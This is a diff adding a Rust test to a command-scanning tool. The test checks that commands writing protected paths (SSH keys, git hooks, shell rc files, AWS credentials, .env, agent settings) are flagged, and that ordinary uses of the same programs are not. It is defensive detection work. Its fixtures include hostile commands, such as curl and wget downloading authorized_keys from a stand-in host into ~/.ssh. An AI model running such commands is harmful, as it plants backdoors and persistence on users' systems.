@@ -337,3 +337,102 @@ fn scan_plan_cannot_check_what_it_cannot_read() {
     assert_eq!(out["status"], "ERROR");
     assert_eq!(out["error"]["code"], "PLAN_UNREADABLE");
 }
+
+/// The rules `scan command --json` finds for `command`, sorted.
+fn scan_rules(command: &str) -> (i32, Vec<String>) {
+    let ran = Case::new(&["scan", "command", "--json", "--", command]).run();
+    let out: Value = serde_json::from_str(&ran.stdout).unwrap();
+    let mut rules: Vec<String> = out["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["rule"].as_str().unwrap().to_owned())
+        .collect();
+    rules.sort();
+    rules.dedup();
+    (ran.status, rules)
+}
+
+/// Hard rule 16 through the table of writers: each program writing a
+/// protected path is judged exactly as a `>` redirection into the file it
+/// writes; the same programs used in ordinary ways are left alone.
+#[test]
+fn writers_are_held_to_the_protected_paths_like_a_redirection() {
+    for (command, written) in [
+        ("tar -xf x.tar -C ~/.ssh", "~/.ssh"),
+        ("tar xzf x.tgz --directory=.git/hooks", ".git/hooks"),
+        ("unzip -d .git/hooks x.zip", ".git/hooks"),
+        ("cp evil .git/hooks/", ".git/hooks/evil"),
+        ("cp -t ~/.aws creds", "~/.aws/creds"),
+        ("mv rc ~/.ssh/", "~/.ssh/rc"),
+        ("install -m 600 key ~/.ssh/", "~/.ssh/key"),
+        ("curl -o ~/.bashrc https://x.invalid/rc", "~/.bashrc"),
+        (
+            "curl --output-dir ~/.ssh -O https://x.invalid/authorized_keys",
+            "~/.ssh/authorized_keys",
+        ),
+        (
+            "wget -P ~/.ssh https://x.invalid/authorized_keys",
+            "~/.ssh/authorized_keys",
+        ),
+        ("sort -o ~/.bashrc x", "~/.bashrc"),
+        (
+            "prettier --write ~/.claude/settings.json",
+            "~/.claude/settings.json",
+        ),
+        ("perl -pi -e 's/a/b/' ~/.zshrc", "~/.zshrc"),
+        ("sed -n 'w .env' in.txt", ".env"),
+        ("gawk -i inplace '{print}' .env", ".env"),
+        ("gzip -d .env.gz", ".env"),
+        ("sponge ~/.profile", "~/.profile"),
+        ("patch -o ~/.profile a p", "~/.profile"),
+        ("git clone https://x.invalid/h .git/hooks", ".git/hooks"),
+        ("git -C ~ checkout -- .bashrc", "~/.bashrc"),
+        ("find . -fprint ~/.zshrc", "~/.zshrc"),
+        (
+            "yq -i '.a=1' .claude/settings.json",
+            ".claude/settings.json",
+        ),
+        (
+            "ln -s /tmp/k ~/.ssh/authorized_keys",
+            "~/.ssh/authorized_keys",
+        ),
+        (
+            "python3 -c \"open('/home/u/.ssh/authorized_keys','w')\"",
+            "/home/u/.ssh/authorized_keys",
+        ),
+        (
+            "python3 -c \"import shutil; shutil.copy('k', '/home/u/.ssh/authorized_keys')\"",
+            "/home/u/.ssh/authorized_keys",
+        ),
+        (
+            "node -e \"require('fs').copyFileSync('x', '.git/hooks/pre-commit')\"",
+            ".git/hooks/pre-commit",
+        ),
+    ] {
+        let redirect = scan_rules(&format!("echo x > {written}"));
+        assert!(!redirect.1.is_empty(), "{written} is protected");
+        assert_eq!(scan_rules(command), redirect, "{command}");
+    }
+    for ordinary in [
+        "tar -xf a.tgz",
+        "tar -czf out.tgz src",
+        "unzip x.zip",
+        "unzip -d build x.zip",
+        "cargo fmt",
+        "black src/",
+        "prettier --write .",
+        "git checkout main",
+        "git stash",
+        "git apply fix.patch",
+        "patch -p1 < fix.patch",
+        "cp a.txt dir/",
+        "curl -fsSLO https://x.invalid/a.tar.gz",
+        "sort -o out.txt in.txt",
+        "split -l 100 big.csv part_",
+        "gzip -d a.gz",
+        "python3 -c \"import sys; open(sys.argv[1], 'w')\" out.txt",
+    ] {
+        assert_eq!(scan_rules(ordinary), (0, Vec::new()), "{ordinary}");
+    }
+}
